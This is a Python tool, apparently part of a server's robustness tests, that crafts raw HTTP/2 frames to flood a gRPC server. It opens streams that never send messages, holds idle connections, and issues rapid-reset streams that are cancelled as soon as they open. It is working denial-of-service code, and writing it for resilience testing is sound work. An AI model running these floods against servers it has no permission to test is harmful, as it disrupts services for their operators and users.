"""Flood a server with hand-made HTTP/2 frames, which cost the attacker less than any gRPC client would.

    python -m robustness.http2_flood HOST:PORT KIND COUNT [SECONDS]

KIND is one of:
    stuck: COUNT calls that never send their message, on connections that answer every ping.
    silent: COUNT connections that send nothing.
    reset: COUNT calls a second for SECONDS seconds, each cancelled as it is opened.

The program prints "begun" once it has begun, and keeps its connections until its standard input ends. For each line of
input, and at its end, it prints the outcome so far as JSON; of `reset` it does so once, when all calls are sent.
"""

import itertools
import json
import socket
import struct
import sys
import threading
import time

DATA, HEADERS, RESET, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
ACKNOWLEDGED, END_OF_STREAM, END_OF_HEADERS = 1, 1, 4
CANCEL = struct.pack(">I", 8)
RPCS = (
    *("camserve.v1.ExplainService/Explain", "camserve.v1.ExplainService/ExplainStream"),
    *("inference.GRPCInferenceService/ModelInfer", "inference.GRPCInferenceService/ModelStreamInfer"),
)
STREAMS = 100  # a connection: the server accepts no more
STREAMS_PER_WRITE = 50  # opened and cancelled in one write


def frame(kind, flags, stream, content=b""):
    return len(content).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + content


def plain(name, value):
    """Encode a header in HPACK as a literal, without its tables."""
    return b"\0" + bytes((len(name),)) + name + bytes((len(value),)) + value


def opening(rpc):
    """Return the headers of a call. Bytes that are no UTF-8 are written as `surrogateescape` decodes them."""
    path = f"/{rpc}".encode(errors="surrogateescape")
    headers = ((b":path", path), (b":authority", b"x"), (b"content-type", b"application/grpc"), (b"te", b"trailers"))
    return b"\x83\x86" + b"".join(plain(*header) for header in headers)  # POST, http


OPENINGS = tuple(map(opening, RPCS))
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
NO_WINDOW = struct.pack(">HI", 4, 0)  # SETTINGS_INITIAL_WINDOW_SIZE: the answers are never read
WINDOW = 2**30


class Connection:
    """Connection that sends only what HTTP/2 requires: it answers pings, so that the server keeps it.

    Args:
        host: the server's host.
        port: the server's port.
        settings: the content of the HTTP/2 SETTINGS frame.
        source: the address that the server sees.
    """

    def __init__(self, host, port, settings=b"", source=""):
        self.socket = socket.create_connection((host, int(port)), source_address=(source, 0) if source else None)
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
        self.streams, self.open, self.statuses = itertools.count(1, 2), True, 0
        self._window, self._wider = 65535, threading.Condition()  # bytes of messages that the server takes
        self.listener = threading.Thread(target=self._listen, daemon=True)
        self.listener.start()

    def _listen(self):
        with self.socket.makefile("rb") as incoming:
            try:
                while head := incoming.read(9):
                    content = incoming.read(int.from_bytes(head[:3], "big"))
                    self._handle(head[3], head[4], content)
                    if head[3] == WINDOW_UPDATE and not any(head[5:]):
                        self._widen(int.from_bytes(content, "big"))
            except (OSError, IndexError):
                pass  # closed by the server
        self.open = False
        self._widen(WINDOW)

    def _widen(self, size):
        with self._wider:
            self._window += size
            self._wider.notify_all()

    def _handle(self, kind, flags, content):
        self.statuses += kind == HEADERS
        if kind in {SETTINGS, PING} and not flags & ACKNOWLEDGED:
            self.socket.sendall(frame(kind, ACKNOWLEDGED, 0, content if kind == PING else b""))

    def send(self, rpc, message):
        """Open a call with its one message, which fits into a frame; return the stream's number."""
        with self._wider:
            self._wider.wait_for(lambda: self._window > len(message) + 5)
            self._window -= len(message) + 5
        stream, length = next(self.streams), struct.pack(">BI", 0, len(message))
        opened = frame(HEADERS, END_OF_HEADERS, stream, opening(rpc))
        self.socket.sendall(opened + frame(DATA, END_OF_STREAM, stream, length + message))
        return stream

    def read_on(self):
        """Accept all answers from now on."""
        larger = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, WINDOW))
        self.socket.sendall(larger + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", WINDOW)))

    def call(self, count, *, cancel):
        """Open `count` calls in one write."""
        frames = bytearray()
        for stream in itertools.islice(self.streams, count):
            frames += frame(HEADERS, END_OF_HEADERS, stream, OPENINGS[stream // 2 % len(OPENINGS)])
            if cancel:
                frames += frame(RESET, 0, stream, CANCEL)
        self.socket.sendall(frames)


def stuck(address, count, _seconds):
    connections = []
    for start in range(0, count, STREAMS):
        connections.append(Connection(*address))
        connections[-1].call(min(STREAMS, count - start), cancel=False)
    yield
    while True:
        yield {
            "ended": sum(connection.statuses for connection in connections),
            "open": sum(connection.open for connection in connections),
        }


def silent(address, count, _seconds):
    sockets = [socket.create_connection(address) for _ in range(count)]
    yield
    while True:
        yield {"open": sum(map(is_open, sockets))}


def is_open(connection):
    connection.setblocking(False)
    try:
        while connection.recv(1024):
            pass
    except BlockingIOError:
        return True
    except OSError:
        pass
    return False


def reset(address, count, seconds):
    connection, sent, began = Connection(*address), 0, time.perf_counter()
    yield
    while sent < count * seconds:
        try:
            if not connection.open:
                connection = Connection(*address)
            connection.call(STREAMS_PER_WRITE, cancel=True)
            sent += STREAMS_PER_WRITE
        except OSError:
            connection.open = False
        time.sleep(max(0.0, sent / count - (time.perf_counter() - began)))
    yield {"sent": sent, "open": int(connection.open)}


def main(address, kind, count, seconds="0"):
    flood = {"stuck": stuck, "silent": silent, "reset": reset}[kind](
        tuple(address.rsplit(":", 1)), int(count), float(seconds)
    )
    next(flood)
    print("begun", flush=True)  # noqa: T201 -- the process that started this waits for it
    if kind == "reset":
        print(json.dumps(next(flood)), flush=True)  # noqa: T201
        sys.stdin.read()
        return
    for _ in sys.stdin:
        print(json.dumps(next(flood)), flush=True)  # noqa: T201
    print(json.dumps(next(flood)), flush=True)  # noqa: T201


if __name__ == "__main__":
    main(*sys.argv[1:])
